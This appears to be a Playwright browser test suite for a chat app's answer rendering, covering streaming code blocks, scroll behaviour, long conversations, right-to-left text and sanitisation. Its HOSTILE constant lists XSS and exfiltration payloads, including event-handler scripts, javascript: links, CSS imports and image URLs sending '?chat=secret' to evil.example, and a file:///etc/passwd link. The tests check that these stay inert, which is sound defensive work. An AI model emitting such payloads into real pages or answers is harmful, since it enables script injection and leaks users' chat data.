"""How answers are rendered while they stream and afterwards, in a browser, hostile ones included."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from core.scope import system_scope
from gpts.assistants.models import GPT
from gpts.assistants.services.versions import clear_live_version
from gpts.assistants.states import Audience
from gpts.chat.models import SharedConversation
from gpts.chat.queries.turns import WINDOW_SIZE
from tests.fakes.openai_server import ModelServer
from tests.support.answers import RICH_ANSWER
from tests.support.browser import Person, send_message
from tests.support.chat import configure_model, create_conversation, create_public_gpt
from tests.support.factories.gpts import GPTFactory
from tests.support.factories.workspaces import UserFactory
from tests.support.services import WebService
from tests.support.times import NOW
from tests.support.waiting import wait_for

# Each of these would make the reader's browser send a request or run a script.
HOSTILE = """<img src=x onerror="window.pwned=1"> <svg onload="window.pwned=1"></svg>

<iframe srcdoc="<script>top.pwned=1</script>"></iframe> <script>window.pwned=1</script>

[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>) <a href="//evil.example">x</a>

![inline](https://evil.example/i.png?chat=secret) ![reference][r] <img srcset="https://evil.example/s.png 2x">

[r]: https://evil.example/r.png?chat=secret

<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>

<div style="background:url(https://evil.example/c.png)">styled</div> <video poster="https://evil.example/v.png">

https://evil.example/bare <https://evil.example/auto> [a\u202e](https://evil.example/bidi) [x](https://good.example@evil.example)

$\\href{https://evil.example/k}{x} \\includegraphics{https://evil.example/k.png} \\url{javascript:alert(1)}$

```mermaid
graph LR; A["<img src=https://evil.example/m.png onerror=alert(1)>"] --> B
```

[handbook](sandbox:/mnt/data/handbook.pdf) [files](/build/x/knowledge) [file](file:///etc/passwd) [v](vbs:x)

<meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/"> <form action="https://evil.example/"><button>Go</button></form>

| <img src=https://evil.example/t.png> |
|---|
| ![t](https://evil.example/t2.png) |

<link rel="preload" href="https://evil.example/p.css" as="style"> <object data="https://evil.example/o.swf"></object>
"""


@pytest.fixture
def person(browser: Browser, server: WebService) -> Iterator[Person]:
    made = Person(browser, server.url, "Rita")
    yield made
    made.close()


def open_chat(person: Person, model_server: ModelServer, model: str) -> GPT:
    model_server.state.control = ""
    gpt = create_public_gpt(configure_model(model_server.url, model))
    person.enter(UserFactory.create(display_name="Rita"))
    person.go(f"/g/{gpt.slug}/chat")
    return gpt


def expect_answer_ended(page: Page) -> None:
    expect(page.get_by_role("button", name="Answer again").last).to_be_visible()
    expect(page.locator(".message--running")).to_have_count(0)


def wait_for_script(place: Locator, script: str) -> None:
    """Wait until a script returns true; the page's CSP forbids Playwright's wait_for_function."""
    wait_for(lambda: bool(place.evaluate(script)))


def test_code_streams_as_code_and_is_coloured_and_copied(person: Person, model_server: ModelServer) -> None:
    open_chat(person, model_server, "verbatim:1:10")
    page = person.page
    send_message(page, RICH_ANSWER)

    # An unfinished code block is already shown as one, without its fence.
    expect(page.locator(".message--running .message__code")).to_contain_text("def sign(key):\n    return key")
    assert "```" not in page.locator(".message--running .message__text").inner_text()
    expect_answer_ended(page)

    text = page.locator(".message--assistant .message__text")
    expect(text.locator("h4")).to_have_text("Signing")
    expect(text.locator("math")).to_have_count(2)
    expect(text.locator("td.is-right")).to_have_text("17")
    expect(text.locator(".code__text .tok-k").first).to_have_text("def")
    # On plain http the browser has no clipboard to read, so the test reads what the page passes to it.
    page.evaluate(
        "navigator.clipboard ? 0 : Object.defineProperty(navigator, 'clipboard', {value: {}});"
        "navigator.clipboard.writeText = async (text) => { window.copied = text }"
    )
    text.get_by_role("button", name="Copy").click()
    expect(text.get_by_role("button", name="Copied")).to_be_visible()
    assert (
        page.evaluate("window.copied") == "def sign(key):\n    return key + 1  # one more\n\nprint(sign(2))\n"
    )
    person.assert_quiet()


def test_a_reader_who_scrolled_up_stays_there_while_text_streams(
    person: Person, model_server: ModelServer
) -> None:
    open_chat(person, model_server, "normal:600:80")
    page = person.page
    column = page.locator("#column")
    send_message(page, "A long answer")
    # A reader at the end stays at the end.
    wait_for_script(column, "e => e.scrollTop > 300")
    distance = "e => e.scrollHeight - e.scrollTop - e.clientHeight"
    assert column.evaluate(distance) < 80

    column.evaluate("e => { e.scrollTop = 40 }")
    height = column.evaluate("e => e.scrollHeight")
    wait_for_script(column, f"e => e.scrollHeight > {height + 200}")

    assert column.evaluate("e => e.scrollTop") == 40
    down = page.get_by_role("button", name="To the latest message")
    expect(down).to_be_visible()
    expect_answer_ended(page)
    assert column.evaluate("e => e.scrollTop") == 40
    down.click()
    wait_for_script(column, "e => e.scrollHeight - e.scrollTop - e.clientHeight < 80")
    expect(down).to_be_hidden()
    person.assert_quiet()


def test_a_conversation_of_500_turns_opens_at_its_end_and_loads_earlier_turns(person: Person) -> None:
    with system_scope("tests"):
        reader = UserFactory.create(display_name="Rita")
        conversation = create_conversation(reader, turns=500, gpt=GPTFactory.create(owner=reader))
    person.enter(reader)
    person.go(f"/c/{conversation.pk}")
    page = person.page
    column, turns = page.locator("#column"), page.locator("[data-turn]")
    expect(turns).to_have_count(WINDOW_SIZE)
    expect(page.locator(".message--user .message__text", has_text="Question 500")).to_be_in_viewport()

    column.evaluate("e => { e.scrollTop = 10 }")

    # The first turn keeps its position; earlier turns are added above it.
    expect(turns).to_have_count(2 * WINDOW_SIZE)
    expect(
        page.locator(".message--user .message__text", has_text=f"Question {501 - WINDOW_SIZE}")
    ).to_be_in_viewport()
    page.get_by_role("link", name="Show earlier").focus()
    expect(turns).to_have_count(3 * WINDOW_SIZE)
    expect(page.locator(f"[data-position='{501 - 3 * WINDOW_SIZE}']")).to_be_focused()
    person.assert_quiet()


def test_a_finished_conversation_opens_at_its_end_and_sends_no_requests(person: Person) -> None:
    with system_scope("tests"):
        reader = UserFactory.create(display_name="Rita")
        conversation = create_conversation(reader, turns=12)
        clear_live_version(gpt=conversation.gpt, audience=Audience.PUBLIC, at=NOW)
    person.enter(reader)
    person.go(f"/c/{conversation.pk}")
    page = person.page

    expect(page.get_by_text("This conversation has ended")).to_be_visible()
    expect(page.locator(".message--user .message__text", has_text="Question 12")).to_be_in_viewport()
    expect(page.get_by_label("Message", exact=True)).to_have_count(0)
    expect(page.get_by_text("Edit message").first).to_be_hidden()
    expect(page.get_by_text("Answer again").first).to_be_hidden()
    expect(page.get_by_role("button", name="Copy").last).to_be_visible()
    person.assert_quiet()


def test_hostile_markdown_is_inert_in_the_chat_and_behind_a_link(
    person: Person, model_server: ModelServer, browser: Browser
) -> None:
    open_chat(person, model_server, "verbatim")
    page = person.page
    send_message(page, HOSTILE)
    expect_answer_ended(page)
    assert_inert(page)
    page.reload()
    assert_inert(page)
    # A link shows its target and sends no referrer.
    link = page.locator(".message--assistant a.image-link").first
    expect(link).to_have_attribute("rel", "noopener nofollow ugc")
    expect(link).to_have_attribute("target", "_blank")
    expect(page.locator(".message--assistant .link-host").first).to_have_text("(evil.example)")
    page.goto(f"{page.url}/share")
    person.press("Make the link")
    person.sees("Shared link")
    assert_inert(page)
    person.assert_quiet()

    stranger = Person(browser, person.base_url, "Stranger")
    try:
        stranger.go(f"/s/{SharedConversation.objects.get().token}")
        assert_inert(stranger.page)
        # The page's metadata has only the title of the conversation, escaped.
        head = stranger.page.locator("head").inner_html()
        assert "noindex" in head
        assert "secret" not in head
        stranger.assert_quiet()
    finally:
        stranger.close()


def assert_inert(page: Page) -> None:
    place = page.locator(".message--assistant .message__text").first
    expect(place).to_contain_text("onerror")
    assert page.evaluate("window.pwned") is None
    loading = "img, svg, iframe, script, style, video, object, link, form, base, meta, [style], [srcset]"
    assert place.locator(loading).count() == 0
    hrefs = place.locator("a").evaluate_all("all => all.map((a) => a.getAttribute('href'))")
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs)
    handlers = "all => all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith('on'))"
    assert place.locator("*").evaluate_all(handlers) == []


def test_right_to_left_text_and_emoji_are_shown_in_place(person: Person, model_server: ModelServer) -> None:
    model_server.state.control = ""
    gpt = create_public_gpt(configure_model(model_server.url, "verbatim"), name="מורה לאותיות 🏛️ Arches")
    person.enter(UserFactory.create(display_name="Rita"))
    person.go(f"/g/{gpt.slug}/chat")
    page = person.page
    question = "שלום 👋🏽, what is مرحبا in English? 👩‍👩‍👧"
    send_message(page, question)
    expect_answer_ended(page)

    expect(page.locator(".message--user .message__text")).to_have_text(question)
    expect(page.locator(".message--assistant .message__text")).to_have_text(question)
    expect(page.locator(".message__name")).to_have_text("מורה לאותיות 🏛️ Arches")
    # Each paragraph has the direction of its first letter; the page keeps its own.
    for words in (".message--user .message__text", ".message--assistant .message__text > p"):
        assert page.locator(words).evaluate("e => getComputedStyle(e).unicodeBidi") == "plaintext"
    for width in (390, 1440):
        page.set_viewport_size({"width": width, "height": 800})
        assert not page.evaluate("document.documentElement.scrollWidth > innerWidth")
    person.assert_quiet()
